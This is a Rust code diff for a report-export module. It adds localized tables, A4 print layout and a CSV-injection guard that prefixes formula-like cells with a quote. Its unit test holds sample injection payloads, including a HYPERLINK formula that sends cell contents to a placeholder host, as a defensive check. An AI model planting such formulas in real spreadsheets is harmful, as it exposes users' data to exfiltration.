@@ -48,7 +48,7 @@ impl Cell {
     }
 
     /// The cell as a person reads it on paper (dates dd/mm/aaaa).
-    pub(super) fn display(&self) -> String {
+    pub fn display(&self) -> String {
         match self {
             Cell::Date(d) => d.format("%d/%m/%Y").to_string(),
             Cell::DateTime(t) => t.format("%d/%m/%Y %H:%M").to_string(),
@@ -112,6 +112,16 @@ impl Table {
         Table {
             name: name.into(),
             header: header.iter().map(|h| (*h).to_owned()).collect(),
+            rows: vec![],
+            chart: None,
+        }
+    }
+
+    /// A table whose name and column headers are messages in `lang` (their keys).
+    pub fn localized(locales: &Locales, lang: &str, name_key: &str, header_keys: &[&str]) -> Table {
+        Table {
+            name: locales.t(lang, name_key),
+            header: header_keys.iter().map(|k| locales.t(lang, k)).collect(),
             rows: vec![],
             chart: None,
         }
@@ -216,7 +226,9 @@ impl Document {
                 }
             }
             let header_row = row_num(self.notes.len() + usize::from(!self.notes.is_empty()));
-            let mut widths: Vec<usize> = table.header.iter().map(|h| h.chars().count()).collect();
+            // A long header wraps (its cells are set to) rather than widen its
+            // column past its longest word, so a wide matrix still prints readably.
+            let mut widths: Vec<usize> = table.header.iter().map(|h| header_width(h)).collect();
             for (c, h) in table.header.iter().enumerate() {
                 sheet.write_string_with_format(header_row, col_num(c), h, &head)?;
             }
@@ -275,6 +287,7 @@ impl Document {
                 sheet.set_column_width(col_num(c), (*w as f64 + 2.0).clamp(6.0, 60.0))?;
             }
             sheet.set_freeze_panes(header_row + 1, 0)?;
+            print_setup(sheet, self.notes.first(), &widths, header_row)?;
             if !table.rows.is_empty() && !table.header.is_empty() {
                 sheet.autofilter(
                     header_row,
@@ -289,6 +302,43 @@ impl Document {
         }
         book.save_to_buffer()
     }
+}
+
+/// How wide a header wants its column: all of it up to 16 characters, else its
+/// longest word (the rest wraps onto more lines).
+fn header_width(header: &str) -> usize {
+    let longest = header.split_whitespace().map(|w| w.chars().count()).max();
+    header.chars().count().min(16).max(longest.unwrap_or(0))
+}
+
+/// Wider than this (in characters; an A4 portrait page holds about 95 at full size,
+/// so this is about 80 % scale, still readable) a sheet prints landscape.
+const PORTRAIT_CHARS: usize = 120;
+
+/// How a sheet prints: on A4, landscape when its columns are wide, every column on
+/// the page's width (as many pages down as it needs), the notes and the header row
+/// repeated on each page, the title in the page header and "page n / m" below.
+fn print_setup(
+    sheet: &mut Worksheet,
+    title: Option<&String>,
+    widths: &[usize],
+    header_row: u32,
+) -> Result<(), XlsxError> {
+    const A4: u8 = 9;
+    sheet.set_paper_size(A4);
+    let wide: usize = widths.iter().map(|w| (w + 2).clamp(6, 60)).sum();
+    if wide > PORTRAIT_CHARS {
+        sheet.set_landscape();
+    }
+    sheet.set_print_fit_to_pages(1, 0);
+    sheet.set_repeat_rows(0, header_row)?;
+    if let Some(title) = title {
+        // `&` starts a code in a page header; Excel's limit is 255 characters.
+        let title: String = title.replace('&', "&&").chars().take(200).collect();
+        sheet.set_header(format!("&C{title}"));
+    }
+    sheet.set_footer("&C&P / &N");
+    Ok(())
 }
 
 fn chart(
@@ -356,21 +406,41 @@ fn col_num(i: usize) -> u16 {
     u16::try_from(i).unwrap_or(u16::MAX)
 }
 
-/// The table as CSV text.
+/// The table as CSV text, every cell made safe to open in a spreadsheet
+/// ([`neutralise`]).
 pub fn write_csv<R, F, H>(header: &[H], rows: R) -> Vec<u8>
 where
     R: IntoIterator<Item = Vec<F>>,
-    F: AsRef<[u8]>,
-    H: AsRef<[u8]>,
+    F: AsRef<str>,
+    H: AsRef<str>,
 {
     let mut out = csv::Writer::from_writer(vec![]);
     // Writing to memory cannot fail but for a record of another length, which the
     // callers' fixed headers rule out; a failed record is left out, never half-written.
-    let _ = out.write_record(header);
+    let _ = out.write_record(header.iter().map(|h| neutralise(h.as_ref()).into_owned()));
     for row in rows {
-        let _ = out.write_record(row);
+        let _ = out.write_record(row.iter().map(|c| neutralise(c.as_ref()).into_owned()));
     }
     out.into_inner().unwrap_or_default()
+}
+
+/// A CSV cell a spreadsheet will not run as a formula (OWASP's "CSV injection"
+/// rule): text starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+/// leading `'`, which Excel and LibreOffice show as text. A plain number ("-3",
+/// "-1.5") is left as it is: it is no formula, and a report's figures stay figures.
+/// Every CSV the project writes goes through here.
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = cell.strip_prefix('-').is_some_and(|n| {
+        !n.is_empty()
+            && n.parse::<f64>().is_ok()
+            && n.chars().all(|c| c.is_ascii_digit() || c == '.')
+    });
+    if dangerous && !number {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// The same CSV, marked UTF-8 for Excel: what a chat receives as a file.
@@ -415,5 +485,37 @@ mod tests {
         );
         let xlsx = Document::new(vec!["Título".into()], vec![t]).to_xlsx();
         assert!(xlsx.is_ok_and(|b| b.starts_with(b"PK")));
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
+        let mut t = Table::new("Lista", &["entidad", "n"]);
+        for danger in [
+            "=HYPERLINK(\"http://x\"&A1,\"ver\")",
+            "+51987",
+            "-2+3",
+            "@SUM(A1)",
+            "\tcmd",
+            "\rcmd",
+        ] {
+            t.push(vec![Cell::text(danger), Cell::Int(-4)]);
+        }
+        t.push(vec![
+            Cell::text("Municipalidad = buena"),
+            Cell::Num(-1.5, 1),
+        ]);
+        let csv = String::from_utf8(t.to_csv()).unwrap_or_default();
+        let mut rows = csv::Reader::from_reader(csv.as_bytes());
+        let cells: Vec<(String, String)> = rows
+            .records()
+            .flatten()
+            .map(|r| (r[0].to_owned(), r[1].to_owned()))
+            .collect();
+        assert_eq!(cells.len(), 7);
+        for (cell, n) in &cells[..6] {
+            assert!(cell.starts_with('\''), "{cell:?} left as a formula");
+            assert_eq!(n, "-4", "a negative number stays a number");
+        }
+        assert_eq!(cells[6], ("Municipalidad = buena".into(), "-1.5".into()));
     }
 }
